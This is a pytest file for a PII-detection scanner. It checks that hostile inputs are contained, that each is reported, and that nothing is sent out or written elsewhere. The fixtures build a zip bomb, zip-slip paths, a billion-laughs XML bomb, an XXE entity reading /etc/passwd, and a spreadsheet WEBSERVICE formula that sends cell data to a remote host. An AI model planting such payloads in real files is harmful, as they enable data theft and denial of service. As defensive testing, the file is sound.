# SPDX-License-Identifier: Apache-2.0
"""What a suspect may leave behind: the run goes on, each is told, nothing is written elsewhere."""

from __future__ import annotations

import fcntl
import io
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
import xlsxwriter
from tests.xlsb import workbook

import piidetect as pii
from piidetect.sources import Limits, Options, open_source
from piidetect.sources.carved import CarvedSource
from piidetect.sources.content import content_of_bytes, content_of_file

ID, MOBILE = "110101190501010010", "13800138000"
ROW = f"张三,{ID},{MOBILE}\n".encode()


def zipped(members) -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, raw in members.items():
            archive.writestr(name, raw)
    return into.getvalue()


def nested(depth: int) -> bytes:
    raw = zipped({"a.csv": ROW})
    for _ in range(depth):
        raw = zipped({"b.zip": raw})
    return raw


def formulas() -> bytes:
    into = io.BytesIO()
    with xlsxwriter.Workbook(into, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["姓名", "手机号"])
        sheet.write_string(1, 0, "张三")
        sheet.write_formula(1, 1, '=WEBSERVICE("http://example.com/"&A2)', None, MOBILE)
    return into.getvalue()


ENTITIES = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "{}">{}]><a><b>&{};</b></a>'
LAUGHS = "".join(
    f'<!ENTITY a{at} "{"&a;" if at == 0 else f"&a{at - 1};"}{"&a;" * 9}">' for at in range(9)
)


@pytest.fixture
def folder(tmp_path):
    root = tmp_path / "seized"
    root.mkdir()
    (tmp_path / "outside.csv").write_bytes(ROW)
    files = {
        "good.csv": ROW,
        "bomb.zip": zipped({"zeros": bytes(200_000_000)}),
        "many.zip": zipped({f"{at}.csv": ROW for at in range(300)}),
        "deep.zip": nested(12),
        "leaves.zip": zipped({"../../../escaped.csv": ROW, "/tmp/escaped.csv": ROW}),
        "laughs.xml": ENTITIES.format("ha", LAUGHS, "a8").encode(),
        "xxe.xml": ENTITIES.format("", '<!ENTITY x SYSTEM "file:///etc/passwd">', "x").encode(),
        "formula.xlsx": formulas(),
        "far.xlsb": workbook({(0, 0): ID, (1_048_575, 16_383): ID}),
        "a.bin": b"\x01\x02" * 99,
        "empty": b"",
    }
    for name, raw in files.items():
        (root / name).write_bytes(raw)
    (root / "out").symlink_to(tmp_path / "outside.csv")
    (root / "loop").symlink_to(root)
    (root / "device").symlink_to("/dev/zero")
    os.mkfifo(root / "fifo")
    Path(os.fsdecode(os.fsencode(root) + b"/\xd5\xc5.csv")).write_bytes(ROW)
    return root


def everything(root: Path) -> set[str]:
    return {str(path.relative_to(root)) for path in root.rglob("*")}


def test_one_scan_of_everything_hostile(folder, tmp_path, monkeypatch):
    spill = tmp_path / "spill"
    spill.mkdir()
    monkeypatch.chdir(tmp_path)
    before = everything(tmp_path)
    case = pii.scan(
        folder,
        out=tmp_path / "case",
        limits=Limits(depth=5, members=100, ratio=100, unpacked=1 << 30),
        spill_dir=spill,
        threads=1,
    )
    added = everything(tmp_path) - before
    assert {one.split("/")[0] for one in added} <= {"case", "spill"}
    assert not Path("/tmp/escaped.csv").exists()
    said: dict[str, set[str]] = {}
    for alert in case.alerts.to_dict("records"):
        said.setdefault(alert["source"].removeprefix(f"{folder}/"), set()).add(alert["code"])
    for name in ("out", "loop", "device"):
        assert "symlink_skipped" in said[name]
    assert "special_file_skipped" in said["fifo"]
    for name in ("bomb.zip", "many.zip", "far.xlsb"):
        assert "limit_reached" in said[name]
    assert any(
        name.startswith("deep.zip") and "limit_reached" in codes for name, codes in said.items()
    )
    for name in ("laughs.xml", "xxe.xml"):
        assert "xml_entities" in said[name]
    assert "nothing_carved" in said["a.bin"]
    read = {
        one["path"].removeprefix(f"{folder}/"): one["rows"]
        for one in case.sources.to_dict("records")
    }
    assert read["good.csv"] == 1
    assert read["formula.xlsx"] == 1
    assert sum(rows for name, rows in read.items() if name.endswith("escaped.csv")) == 2
    assert r"\xd5\xc5.csv" in read
    assert "root:" not in str(case.report(tmp_path / "report.json") or "") + (
        tmp_path / "report.json"
    ).read_text(encoding="utf-8")


def test_nothing_is_sent_and_nothing_written_elsewhere(folder, tmp_path):
    code = """
import os, sys
seen, own = [], os.path.realpath(sys.argv[1])
def hook(event, args):
    if event.startswith("socket.") and event != "socket.__new__":
        seen.append((event, args[1:]))
    if event == "open" and isinstance(args[0], str) and isinstance(args[2], int):
        path = os.path.realpath(args[0])
        if args[2] & (os.O_WRONLY | os.O_RDWR) and not path.startswith((own, cache, "/dev/", "/proc/")):
            seen.append((event, path))
cache = os.path.realpath(os.environ.get("NUMBA_CACHE_DIR") or os.path.expanduser("~/.cache"))
sys.addaudithook(hook)
import piidetect as pii
pii.scan(sys.argv[2], out=sys.argv[1] + "/case", spill_dir=sys.argv[1] + "/spill", threads=2)
print(seen)
"""
    target = tmp_path / "target"
    (target / "spill").mkdir(parents=True)
    done = subprocess.run(
        [sys.executable, "-c", code, target, folder], capture_output=True, text=True, check=True
    )
    assert done.stdout == "[]\n"


@pytest.mark.parametrize("suffix", ["csv", "img"])
def test_a_file_that_grows_while_it_is_read_is_told(tmp_path, suffix):
    path = tmp_path / f"a.{suffix}"
    raw = ROW * 3000 if suffix == "csv" else (bytes(500) + ROW + b"\xff") * 300
    path.write_bytes(raw)
    if suffix == "csv":
        source = open_source(path, options=Options(block_bytes=4096))
    else:
        source = CarvedSource(
            content_of_file(path, "a"), options=Options(block_bytes=4096), why="why"
        )
    rows = 0
    for number, block in enumerate(source.blocks()):
        rows += block.row_start.size
        if number == 0:
            with path.open("ab") as file:
                file.write(raw)
    assert source.ledger.bytes == 2 * len(raw)
    assert rows == source.ledger.rows == (6000 if suffix == "csv" else 600)
    assert "grew" in {one.code for one in source.alerts}


def test_a_raw_image_that_becomes_shorter_is_told():
    content = content_of_bytes((bytes(99) + ROW) * 9, "a", "a")
    source = CarvedSource(
        content.__class__("a", "a", 10_000, content.open), options=Options(), why="why"
    )
    assert sum(block.row_start.size for block in source.blocks()) == 9
    assert "truncated" in {one.code for one in source.alerts}


def test_a_locked_file_is_read(tmp_path):
    path = tmp_path / "a.csv"
    path.write_bytes(ROW * 5)
    with path.open("r+b") as file:
        fcntl.flock(file, fcntl.LOCK_EX)
        fcntl.lockf(file, fcntl.LOCK_EX)
        assert sum(block.row_start.size for block in open_source(path).blocks()) == 5


def test_a_long_line_takes_bounded_memory(tmp_path):
    """A line of 200 MB, in a process of its own: the peak is that of an empty file and 400 MB."""
    path = tmp_path / "a.txt"
    with path.open("wb") as file:
        for _ in range(200):
            file.write((f"{MOBILE};" * 83_334).encode()[:1_000_000])
    code = (
        "import sys, resource\n"
        "from piidetect.sources import open_source\n"
        "rows = sum(b.row_start.size for b in open_source(sys.argv[1]).blocks())\n"
        "print(rows, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)"
    )
    peaks = []
    (tmp_path / "b.txt").write_bytes(ROW)
    for one in (tmp_path / "b.txt", path):
        done = subprocess.run(
            [sys.executable, "-c", code, one], capture_output=True, text=True, check=True
        )
        rows, peak = map(int, done.stdout.split())
        peaks.append(peak)
    assert rows == 12  # cut at 16 MiB
    assert peaks[1] - peaks[0] < 400


LONG_ROWS = {
    "a.txt": ("", ""),
    "insert.sql": ("INSERT INTO t (a) VALUES ('", "');\n"),
    "copy.sql": ("COPY t (a) FROM stdin;\n", "\n\\.\n"),
    "text.sql": ("INSERT INTO t (a) VALUES (1);\nUPDATE t SET a = ", ""),
    "broken.xml": ("<a><b>1</b><b>2</b></c>", ""),
}


@pytest.mark.parametrize("name", LONG_ROWS)
def test_where_a_long_row_is_cut_no_number_is(name, tmp_path):
    before, after = LONG_ROWS[name]
    pieces = [f"电话{MOBILE};", f"，１３８００１３８０００ {MOBILE}", f" tel={MOBILE}|"]
    count = 660_000  # over 16 MiB
    text = before + "".join(pieces[at % 3] for at in range(count)) + after
    (tmp_path / name).write_bytes(text.encode())
    case = pii.scan(tmp_path / name, threads=1)
    assert int(case.counts["findings"].sum()) == count + count // 3


def test_the_spill_of_a_killed_scan_is_removed_by_the_next(tmp_path):
    spill = tmp_path / "spill"
    spill.mkdir()
    (tmp_path / "a.zip").write_bytes(zipped({"a.csv": ROW * 500_000}))
    code = (
        "import sys, time\n"
        "from piidetect.sources import Options, open_sources\n"
        "for one in open_sources(sys.argv[1], options=Options(spill=sys.argv[2])):\n"
        "    print('open', flush=True); time.sleep(60)"
    )
    child = subprocess.Popen(
        [sys.executable, "-c", code, tmp_path / "a.zip", spill], stdout=subprocess.PIPE, text=True
    )
    assert child.stdout.readline() == "open\n"
    left = [one for one in spill.rglob("*") if one.is_file() and one.stat().st_size > 1 << 20]
    assert left
    assert (left[0].parent.stat().st_mode & 0o777, left[0].stat().st_mode & 0o777) == (0o700, 0o600)
    child.send_signal(signal.SIGKILL)
    child.wait()
    child.stdout.close()
    assert left[0].exists()
    time.sleep(0.1)
    (tmp_path / "b.zip").write_bytes(zipped({"b.csv": ROW * 500_000}))
    next_run = [
        sys.executable,
        "-m",
        "piidetect.cli",
        "scan",
        "--spill-dir",
        spill,
        tmp_path / "b.zip",
    ]
    subprocess.run(next_run, capture_output=True, check=True)
    assert list(spill.iterdir()) == []
